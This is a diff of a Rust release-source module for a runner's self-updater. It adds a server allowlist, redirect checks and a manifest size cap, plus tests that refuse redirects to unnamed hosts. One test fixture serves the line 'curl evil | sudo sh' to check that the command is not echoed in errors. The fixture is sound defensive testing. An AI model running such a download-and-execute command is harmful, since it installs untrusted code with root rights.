@@ -1,19 +1,15 @@
 //! Sources of releases: a directory behind HTTPS, a bucket, the releases of a GitHub repository, or
 //! the control plane itself. Sources are not trusted: what they say is believed for its signature.
 
-use std::collections::BTreeMap;
-use std::time::Duration;
-
 use reqwest::Client;
 use russet_protocol::PIN_HEADER;
 use russet_protocol::admin::Pin;
 use russet_protocol::manifest::{FILE_NAME, LARGEST};
-use self_update::backends::{github, s3};
 
 use super::UpdateError;
-
-/// Timeout of a source's answer.
-const TIMEOUT: Duration = Duration::from_secs(60);
+use super::list::{Asset, list_newest};
+use super::request::{self, FetchError};
+use super::servers::{self, Host, Servers};
 
 /// Source of releases.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -119,7 +115,7 @@ enum Archives {
     /// Below this address.
     Beside(String),
     /// By their names.
-    Listed(Vec<(String, String)>),
+    Listed(Vec<Asset>),
 }
 
 impl Found {
@@ -129,19 +125,54 @@ impl Found {
             Archives::Beside(base) => Ok(format!("{base}/{file}")),
             Archives::Listed(assets) => {
                 let asset = assets.iter().find(|(name, _)| name == file);
-                asset.map(|(_, url)| url.clone()).ok_or_else(|| UpdateError::Fetch {
-                    what: file.to_owned(),
-                    why: "the release has no such file".to_owned(),
-                })
+                let address = asset.map(|(_, url)| url.clone()).ok_or(FetchError::NotListed);
+                address.map_err(UpdateError::fetch(file))
             }
         }
     }
 }
 
 impl Source {
-    /// Returns true if archives are behind redirects to other servers.
-    pub(super) fn redirects(&self) -> bool {
-        matches!(self, Self::GitHub { .. })
+    /// Servers that may be asked: that of the source, and these.
+    pub(super) fn servers(
+        &self,
+        control_plane: &str,
+        hosts: &[Host],
+    ) -> Result<Servers, FetchError> {
+        let mut others = hosts.to_vec();
+        if let Self::GitHub { api: None, .. } = self {
+            others.extend(servers::GITHUB.iter().filter_map(|host| host.parse().ok()));
+        }
+        Ok(Servers::new(&self.origin(control_plane), others)?)
+    }
+
+    /// Address of the server that is asked first.
+    pub(super) fn origin(&self, control_plane: &str) -> String {
+        match self {
+            Self::ControlPlane => control_plane.to_owned(),
+            Self::Directory(base) => base.clone(),
+            Self::GitHub { api: Some(api), .. } => api.clone(),
+            Self::GitHub { .. } => "https://api.github.com".to_owned(),
+            Self::S3 { endpoint: Some(endpoint), .. } => endpoint.clone(),
+            Self::S3 { bucket, region, .. } => {
+                let region = region.as_deref().unwrap_or_default();
+                format!("https://{bucket}.s3.{region}.amazonaws.com")
+            }
+        }
+    }
+
+    /// Words for a source that shows no release.
+    pub(super) fn absence(&self) -> String {
+        match self {
+            Self::ControlPlane => "the control plane has no release for this runner".to_owned(),
+            Self::Directory(base) => format!("there is no {FILE_NAME} at {base}"),
+            Self::GitHub { owner, name, .. } => {
+                format!("no release of {owner}/{name} has a {FILE_NAME}")
+            }
+            Self::S3 { bucket, .. } => {
+                format!("no version in the bucket {bucket} has a {FILE_NAME}")
+            }
+        }
     }
 
     /// Returns true if the source says which channel this machine follows.
@@ -149,11 +180,12 @@ impl Source {
         matches!(self, Self::ControlPlane)
     }
 
-    /// Fetches the newest manifest. None: the control plane has none for this runner. And what the
-    /// control plane holds this runner at, if it says so.
+    /// Fetches the newest manifest. None: the source shows none. And what the control plane holds
+    /// this runner at, if it says so.
     pub(super) async fn look(
         &self,
         client: &Client,
+        servers: &Servers,
         control_plane: &str,
         runner: &str,
     ) -> Result<(Option<Found>, Option<Pin>), UpdateError> {
@@ -169,105 +201,37 @@ impl Source {
                 (format!("{base}/{FILE_NAME}"), Archives::Beside(base.clone()))
             }
             Self::GitHub { .. } | Self::S3 { .. } => {
-                let assets = self.list(client).await?;
+                let assets = list_newest(self, client, servers).await;
+                let assets = assets.map_err(UpdateError::fetch("the list of releases"))?;
                 let manifest = assets.iter().find(|(name, _)| name == FILE_NAME);
                 let Some((_, address)) = manifest else { return Ok((None, None)) };
                 (address.clone(), Archives::Listed(assets))
             }
         };
-        let (envelope, pin) = fetch_small(client, &address).await?;
-        let is_none = envelope.is_none() && *self != Self::ControlPlane;
-        if is_none {
-            return Err(fetch_error(FILE_NAME, "it is not there"));
-        }
+        let fetched = fetch_manifest(client, servers, &address).await;
+        let (envelope, pin) = fetched.map_err(UpdateError::fetch(FILE_NAME))?;
         let pin = pin.filter(|_| self.chooses());
         Ok((envelope.map(|envelope| Found { envelope, archives }), pin))
     }
-
-    /// The files of the newest release that has a manifest, with their addresses.
-    async fn list(&self, client: &Client) -> Result<Vec<(String, String)>, UpdateError> {
-        let failed =
-            |error: self_update::errors::Error| fetch_error("the list of releases", &error);
-        let releases = match self {
-            Self::GitHub { owner, name, api } => {
-                let mut list = github::ReleaseList::configure();
-                list.repo_owner(owner).repo_name(name).timeout(TIMEOUT);
-                list.reqwest_async_client(client.clone());
-                if let Some(api) = api {
-                    list.api_base_url(api);
-                }
-                list.build().map_err(failed)?.fetch_async().await.map_err(failed)?
-            }
-            Self::S3 { bucket, prefix, region, endpoint } => {
-                let mut list = s3::ReleaseList::configure();
-                list.bucket_name(bucket).timeout(TIMEOUT).asset_key_pattern(KEY);
-                list.reqwest_async_client(client.clone());
-                if !prefix.is_empty() {
-                    list.asset_prefix(format!("{prefix}/"));
-                }
-                if let Some(region) = region {
-                    list.region(region);
-                }
-                if let Some(endpoint) = endpoint {
-                    list.endpoint(format!("{endpoint}/"));
-                }
-                list.build().map_err(failed)?.fetch_async().await.map_err(failed)?
-            }
-            Self::ControlPlane | Self::Directory(_) => return Ok(Vec::new()),
-        };
-        // A bucket has no releases: there each file is one, with the version in its key.
-        let mut by_version = BTreeMap::<_, Vec<(String, String)>>::new();
-        for release in releases {
-            let version = semver::Version::parse(release.version()).ok();
-            let assets = release.assets().iter();
-            let assets =
-                assets.map(|asset| (last_component(asset.name()), asset.download_url().to_owned()));
-            by_version.entry(version).or_default().extend(assets);
-        }
-        let has_manifest =
-            |assets: &Vec<(String, String)>| assets.iter().any(|(name, _)| name == FILE_NAME);
-        Ok(by_version.into_values().rev().find(has_manifest).unwrap_or_default())
-    }
 }
 
-/// Keys of objects: `1.2.0/manifest.json` behind the prefix.
-const KEY: &str = r"(?P<prefix>.*/)?(?P<version>\d+\.\d+\.\d+[^/]*)/(?P<name>[^/]+)$";
-
-/// The last part of a name with slashes.
-fn last_component(name: &str) -> String {
-    name.rsplit('/').next().unwrap_or(name).to_owned()
-}
-
-fn fetch_error(what: &str, why: impl std::fmt::Display) -> UpdateError {
-    UpdateError::Fetch { what: what.to_owned(), why: why.to_string() }
-}
-
-/// A file that is no longer than a manifest is, and the pin that was told with it. `None`: it is
-/// not there.
-async fn fetch_small(
+/// Fetches a manifest, and the pin that is told with it. `None`: it is not there.
+async fn fetch_manifest(
     client: &Client,
+    servers: &Servers,
     address: &str,
-) -> Result<(Option<Vec<u8>>, Option<Pin>), UpdateError> {
-    // The address may hold a signature of a private bucket.
-    let failed = |error: reqwest::Error| fetch_error(FILE_NAME, error.without_url());
-    let request = client.get(address).timeout(TIMEOUT).header("accept", "application/octet-stream");
-    let mut response = request.send().await.map_err(failed)?;
+) -> Result<(Option<Vec<u8>>, Option<Pin>), FetchError> {
+    let response = request::send(client, servers, address, request::binary()).await?;
     let pin = response.headers().get(PIN_HEADER);
     let pin = pin.and_then(|pin| serde_json::from_slice(pin.as_bytes()).ok());
-    if response.status() == reqwest::StatusCode::NOT_FOUND {
-        return Ok((None, pin));
-    }
-    if !response.status().is_success() {
-        return Err(fetch_error(FILE_NAME, format!("the source answered {}", response.status())));
-    }
-    let mut text = Vec::new();
-    while let Some(chunk) = response.chunk().await.map_err(failed)? {
-        text.extend_from_slice(&chunk);
-        if u64::try_from(text.len()).unwrap_or(u64::MAX) > LARGEST {
-            return Err(fetch_error(FILE_NAME, format!("it is longer than {LARGEST} bytes")));
+    match request::status_error(&response) {
+        Some(FetchError::Missing) => Ok((None, pin)),
+        Some(error) => Err(error),
+        None => {
+            let (_, envelope) = request::read_within(response, LARGEST).await?;
+            Ok((Some(envelope), pin))
         }
     }
-    Ok((Some(text), pin))
 }
 
 #[cfg(test)]
@@ -288,10 +252,15 @@ mod tests {
         url
     }
 
-    async fn look(source: &str) -> Option<super::Found> {
+    /// Looks as an agent does whose control plane has another scheme.
+    async fn look(source: &str) -> Result<Option<super::Found>, super::UpdateError> {
         let source: Source = source.parse().unwrap();
-        let client = russet_platform::http::api_client("http://127.0.0.1:1", None, None).unwrap();
-        source.look(&client, "http://127.0.0.1:1", "mini 1").await.unwrap().0
+        let control_plane = "https://ci.example";
+        let servers = source.servers(control_plane, &[]).unwrap();
+        let origin = source.origin(control_plane);
+        let client =
+            russet_platform::http::download_client(&origin, None, servers.redirects()).unwrap();
+        Ok(source.look(&client, &servers, control_plane, "mini 1").await?.0)
     }
 
     #[test]
@@ -340,7 +309,7 @@ mod tests {
                 get(async |axum::extract::Path(name): axum::extract::Path<String>| name),
             );
         let url = serve(router).await;
-        let found = look(&format!("github:acme/russet?api={url}")).await.unwrap();
+        let found = look(&format!("github:acme/russet?api={url}")).await.unwrap().unwrap();
         assert_eq!(found.envelope, b"manifest.json");
         assert_eq!(found.address("a.tar.gz").unwrap(), format!("{url}/get/a.tar.gz"));
         assert!(found.address("b.tar.gz").is_err());
@@ -368,7 +337,7 @@ mod tests {
             get(async |axum::extract::Path(key): axum::extract::Path<String>| key),
         );
         let url = serve(router).await;
-        let found = look(&format!("s3://releases/mac?endpoint={url}")).await.unwrap();
+        let found = look(&format!("s3://releases/mac?endpoint={url}")).await.unwrap().unwrap();
         assert_eq!(found.envelope, b"mac/1.10.0/manifest.json");
         assert!(found.address("a.tar.gz").unwrap().ends_with("/mac/1.10.0/a.tar.gz"));
     }
@@ -380,13 +349,98 @@ mod tests {
             .route("/big/manifest.json", get(endless))
             .route("/no/manifest.json", get(async || StatusCode::INTERNAL_SERVER_ERROR));
         let url = serve(router).await;
-        let client = russet_platform::http::api_client(&url, None, None).unwrap();
-        for (path, why) in [("big", "longer than"), ("no", "500"), ("none", "not there")] {
-            let source: Source = format!("{url}/{path}").parse().unwrap();
-            let error = source.look(&client, &url, "mini").await.unwrap_err();
+        for (path, why) in [("big", "longer than"), ("no", "500")] {
+            let error = look(&format!("{url}/{path}")).await.unwrap_err();
             assert!(error.to_string().contains(why), "{error}");
         }
-        let found = Source::ControlPlane.look(&client, &url, "mini").await.unwrap();
-        assert!(found.0.is_none() && found.1.is_none());
+        assert!(look(&format!("{url}/none")).await.unwrap().is_none());
+    }
+
+    #[tokio::test]
+    async fn a_list_that_is_empty_has_no_release_and_one_without_end_is_an_error() {
+        let next = |headers: &axum::http::HeaderMap| {
+            let host = headers["host"].to_str().unwrap();
+            format!("<http://{host}/repos/acme/endless/releases>; rel=\"next\"")
+        };
+        let router = Router::new()
+            .route("/repos/acme/empty/releases", get(async || axum::Json(serde_json::json!([]))))
+            .route(
+                "/repos/acme/endless/releases",
+                get(async move |headers: axum::http::HeaderMap| {
+                    ([("link", next(&headers))], axum::Json(serde_json::json!([])))
+                }),
+            )
+            .route("/repos/acme/text/releases", get(async || "Run: curl evil | sudo sh"))
+            .route(
+                "/repos/acme/busy/releases",
+                get(async || (StatusCode::FORBIDDEN, [("x-ratelimit-remaining", "0")], "no")),
+            );
+        let url = serve(router).await;
+        let list = async |name: &str| look(&format!("github:acme/{name}?api={url}")).await;
+        assert!(list("empty").await.unwrap().is_none());
+        for (name, why) in [
+            ("endless", "no end in sight"),
+            ("text", "not in the form"),
+            ("busy", "limits how often"),
+            ("absent", "it is not there"),
+        ] {
+            let error = list(name).await.unwrap_err().to_string();
+            assert!(error.contains(why), "{name}: {error}");
+            assert!(!error.contains("curl") && !error.contains("token"), "{error}");
+        }
+    }
+
+    #[tokio::test]
+    async fn a_source_leads_to_no_server_that_its_owner_did_not_name() {
+        let other = serve(Router::new().route("/manifest.json", get(async || "stolen"))).await;
+        let to = format!("{other}/manifest.json");
+        let listed = to.clone();
+        let router = Router::new()
+            .route(
+                "/away/manifest.json",
+                get(async move || (StatusCode::FOUND, [("location", to.clone())])),
+            )
+            .route(
+                "/here/manifest.json",
+                get(async || (StatusCode::FOUND, [("location", "/real.json")])),
+            )
+            .route("/real.json", get(async || "the manifest"))
+            .route(
+                "/repos/acme/russet/releases",
+                get(async move || {
+                    let asset = serde_json::json!({ "name": "manifest.json", "url": listed });
+                    axum::Json(serde_json::json!([{
+                        "tag_name": "v1.3.0", "name": "", "created_at": "", "assets": [asset]
+                    }]))
+                }),
+            );
+        let url = serve(router).await;
+        let found = look(&format!("{url}/here")).await.unwrap().unwrap();
+        assert_eq!(found.envelope, b"the manifest");
+        for source in [format!("{url}/away"), format!("github:acme/russet?api={url}")] {
+            let error = look(&source).await.unwrap_err().to_string();
+            assert!(error.contains("update.hosts"), "{source}: {error}");
+        }
+        let source: Source = format!("{url}/away").parse().unwrap();
+        let named = other.trim_start_matches("http://").parse().unwrap();
+        let servers = source.servers("https://ci.example", &[named]).unwrap();
+        let client =
+            russet_platform::http::download_client(&url, None, servers.redirects()).unwrap();
+        let found = source.look(&client, &servers, "https://ci.example", "mini").await.unwrap();
+        assert_eq!(found.0.unwrap().envelope, b"stolen");
+    }
+
+    #[test]
+    fn files_of_github_come_from_its_own_stores() {
+        let source: Source = "github:acme/russet".parse().unwrap();
+        let servers = source.servers("http://127.0.0.1:1", &[]).unwrap();
+        for good in [
+            "https://api.github.com/repos/acme/russet/releases/assets/1",
+            "https://release-assets.githubusercontent.com/x?sig=1",
+            "https://objects.githubusercontent.com/x",
+        ] {
+            assert!(servers.check_address(good).is_ok(), "{good}");
+        }
+        assert!(servers.check_address("https://raw.githubusercontent.com/x").is_err());
     }
 }
